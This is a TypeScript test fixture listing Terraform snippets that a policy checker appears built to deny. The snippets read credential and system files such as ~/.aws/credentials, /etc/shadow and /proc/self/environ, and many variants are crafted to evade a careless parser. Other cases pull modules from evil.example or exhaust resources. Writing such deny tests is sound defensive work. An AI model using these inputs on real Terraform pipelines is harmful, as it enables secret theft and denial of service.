// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are Terraform code
import { type Files, json, local, module, resource, tf } from './code-fixture.ts';

/** Denied expressions: in the plain spelling, and in ways that evade a careless parser. */
export const deniedExpressions = {
  'PRE-FILE-FUNCTION': {
    'an absolute path': local('file("/proc/self/environ")'),
    'the parent folder': local('file("${path.module}/../x")'),
    'a comment before the parenthesis': local('file /*c*/ ("/etc/passwd")'),
    'the core namespace': local('core::file("/etc/passwd")'),
    'spaces in the namespace': local('core :: filebase64 ("/etc/passwd")'),
    'the home folder': local('file("~/.aws/credentials")'),
    'an escape': local('file("\\u002fetc/passwd")'),
    'an interpolated slash': local('file("${"/"}etc/passwd")'),
    'a missing slash after the folder': local('file("${path.module}./x")'),
    'a dot split over interpolations': local('file("${path.module}/.${"."}/x")'),
    'a local': tf('locals {\n  p = "/etc"\n  a = file("${local.p}/passwd")\n}\n'),
    'a variable': local('file(var.p)'),
    'a heredoc': local('file(<<EOT\n/etc/passwd\nEOT\n)'),
    'inside a string of a heredoc': tf('locals {\n  a = <<EOT\n  "${file("/etc/passwd")}"\nEOT\n}\n'),
    'inside a for expression': local('[for f in fileset("/proc", "*/environ") : f]'),
    'a pattern that goes up': local('fileset("${path.module}", "../*")'),
    'a pattern whose braces hide dots': local('fileset("${path.module}", "{.,x}./**")'),
    'a hidden file': local('file(".terraform/terraform.tfstate")'),
    JSON: json({ locals: { a: '${file("/etc/passwd")}' } }),
    'a key in JSON': json({ locals: { a: { '${file("/etc/passwd")}': 1 } } }),
    'escapes in JSON': { 'a.tf.json': '{"locals":{"a":"\\u0024{file(\\"/etc/x\\")}"}}' },
    'an attribute in a nested block': resource('x {\n  y {\n    z = filemd5("/etc/passwd")\n  }\n}'),
    'a variable check': tf(
      'variable "x" {\n  validation {\n    condition = fileexists("/etc/passwd")\n  }\n}\n',
    ),
    'a template file': {
      ...local('templatefile("${path.module}/t.tpl", {})'),
      't.tpl': 'a\n$${file("/no")} ${ file("/etc/passwd") }\n',
    },
    'a directive in a template file': {
      ...local('templatefile("t.txt", {})'),
      't.txt': '%{ for x in fileset("/", "*") }${x}%{ endfor }',
    },
    'path.module in the middle': local('file("a${path.module}/b")'),
    'stripped whitespace': local('file("./. ${~ "./x" }")'),
    'an expanded list': local('file(["/etc/passwd"]...)'),
    'one path of many': resource('for_each = { a = "x", b = "../y" }\nbucket = file("a/${each.value}")'),
    'one of many pieces': local('[for a in ["", "/"] : [for b in ["x", "etc"] : file("${a}${b}")]]'),
    'a path in an attribute of one of many': resource(
      'for_each = { a = { p = "x" }, b = { p = "/etc/x" } }\nbucket = file(each.value.p)',
    ),
    'a path in a list by its index': tf('locals {\n  l = ["a", "/etc/x"]\n  a = file(local.l[var.i])\n}\n'),
    'a variable of an inner for': local('[for f in ["a"] : [for f in ["/etc/x"] : file(f)]]'),
    'a collection that is computed': local('[for f in concat(["a"], var.l) : file(f)]'),
    'files of another folder, for each': local(
      '[for f in fileset("/etc", "*") : file("${path.module}/${f}")]',
    ),
    'files of another folder, by themselves': local('[for f in fileset("..", "*") : file(f)]'),
    'paths that multiply without end': tf(
      `locals {\n  l0 = ["a", "b"]\n${Array.from({ length: 30 }, (_, i) => `  l${i + 1} = [for x in local.l${i} : "\${x}\${x}"]`).join('\n')}\n  a = [for x in local.l30 : file(x)]\n}\n`,
    ),
    'a variable of for called path': local(
      '[for path in [{ module = "/etc" }] : file("${path.module}/passwd")]',
    ),
    'a key of for called path': local(
      '{ for path, x in { "/etc" = 1 } : x => file("${path.module}/passwd") }',
    ),
    'a variable of for called local': tf(
      'locals {\n  p = "x"\n  a = [for local in [{ p = "/etc" }] : file("${local.p}/passwd")]\n}\n',
    ),
    'a variable of for called each': resource(
      'for_each = fileset("a", "*")\nbucket = [for each in [{ value = "/etc/passwd" }] : file(each.value)][0]',
    ),
    'a for directive over path': local(
      '"%{ for path in [{ module = "/etc" }] }${file("${path.module}/passwd")}%{ endfor }"',
    ),
    'an argument of a template called path': {
      ...local('templatefile("t.tpl", { path = { module = "/etc" } })'),
      't.tpl': '${file("${path.module}/passwd")}',
    },
  },
  'PRE-TEMPLATE': {
    'a file that is not there': local('templatefile("t.tpl", {})'),
    'a file that does not parse': { ...local('templatefile("t.tpl", {})'), 't.tpl': '${' },
    'a file chosen at run time': resource(
      'for_each = fileset("t", "*")\nbucket = templatefile("t/${each.value}", {})',
    ),
  },
  'PRE-FUNCTION': {
    'a provider function': local('provider::local::direxists("/")'),
    'a template from a value': local('templatestring(local.b, {})'),
    'an unknown function': local('exec("id")'),
    'the core namespace': local('core::templatestring(local.b, {})'),
  },
  'PRE-PATH-ARGUMENT': {
    'an absolute path': resource('source = "/etc/shadow"', 'aws_s3_object'),
    'the parent folder': resource('filename = "../x.zip"', 'aws_lambda_function'),
    'the home folder': resource('source = "~/.ssh/id_rsa"', 'aws_s3_object'),
    'a variable': resource('source = var.path', 'aws_s3_object'),
    'a set of paths that goes up': resource(
      'for_each = fileset("/etc", "*")\nsource = "${each.value}"',
      'aws_s3_object',
    ),
    'glued to a found file': resource(
      'for_each = fileset("a", "*")\nsource = "x${each.value}"',
      'aws_s3_object',
    ),
    JSON: json({ resource: { aws_s3_object: { x: { source: '${"/etc"}/shadow' } } } }),
    'credentials of a data source': tf(
      'data "google_storage_object_signed_url" "x" {\n  credentials = "/etc/passwd"\n}\n',
    ),
    'a nested block': resource('x {\n  cert_file = "/etc/ssl/key.pem"\n}'),
  },
  'PRE-MODULE-SOURCE': {
    'a registry': module('terraform-aws-modules/vpc/aws'),
    git: module('git::https://evil.example/x.git'),
    'the parent folder': module('../victim'),
    'up and down': module('./../../victim'),
    'an absolute path': module('/etc'),
    'a subfolder of a package': module('./m//../../x'),
    'a folder that is not there': module('./n'),
    'no source': tf('module "m" {\n}\n'),
    'a computed source': module('${"./m"}x${1}'),
    JSON: json({ module: { m: { source: 'https://evil.example/x.zip' } } }),
    'a module in a module': {
      ...module('./m'),
      'm/a.tf': 'module "x" {\n  source = "../../x"\n}\n',
    },
  },
  'PRE-COST': {
    bcrypt: local('bcrypt("x", 31)'),
    'a computed cost': local('bcrypt("x", 30 + 1)'),
    'a cost that is a variable': local('bcrypt("x", var.cost)'),
    'a wide format': local('format("%2000000000s", "x")'),
    'a width from a local': tf('locals {\n  w = 2000000000\n  a = format("%${local.w}s", "x")\n}\n'),
    'a width that is put together': local('format(join("", ["%", "2000000000", "s"]), "x")'),
    'a width in a condition': local('format(var.x ? "%2000000000s" : "", "x")'),
    'ranges within ranges in an output': tf(
      'output "x" {\n  value = [for a in range(1024) : [for b in range(1024) : [for c in range(1024) : ""]]]\n}\n',
    ),
    'lists that grow by each other': tf(
      `locals {\n  a0 = ["x", "x", "x", "x", "x", "x", "x", "x"]\n${Array.from({ length: 10 }, (_, i) => `  a${i + 1} = flatten([for x in local.a${i} : local.a0])\n`).join('')}}\n`,
    ),
    'doubled strings': tf(
      `locals {\n  a0 = "xxxxxxxxxx"\n${Array.from({ length: 30 }, (_, i) => `  a${i + 1} = "\${local.a${i}}\${local.a${i}}"`).join('\n')}\n}\n`,
    ),
    'nested ranges': tf(
      'locals {\n  a = [for i in range(1000) : "xxxx"]\n  b = [for i in local.a : local.a]\n  c = [for i in local.a : local.b]\n}\n',
    ),
    'modules that double at each level': Object.fromEntries(
      Array.from({ length: 20 }, (_, i) => {
        const call = (name: string) => `module "${name}" {\n  source = "${i ? '../' : './'}m${i + 1}"\n}\n`;
        return [i ? `m${i}/a.tf` : 'main.tf', i < 19 ? call('a') + call('b') : ''];
      }),
    ),
    'a module that calls itself': tf('module "a" {\n  source = "./."\n}\n'),
    'modules that call each other': {
      ...module('./m'),
      'm/a.tf': 'module "b" {\n  source = "../n"\n}\n',
      'n/a.tf': 'module "a" {\n  source = "../m"\n}\n',
    },
    'a million objects': resource('count = 1000 * 1000'),
    'a million objects by text': resource('count = "1000000"'),
    'a million objects by a power': tf(
      'locals {\n  n = 6\n}\nresource "aws_s3_bucket" "b" {\n  count = pow(10, local.n)\n}\n',
    ),
  },
} satisfies Record<string, Record<string, Files>>;
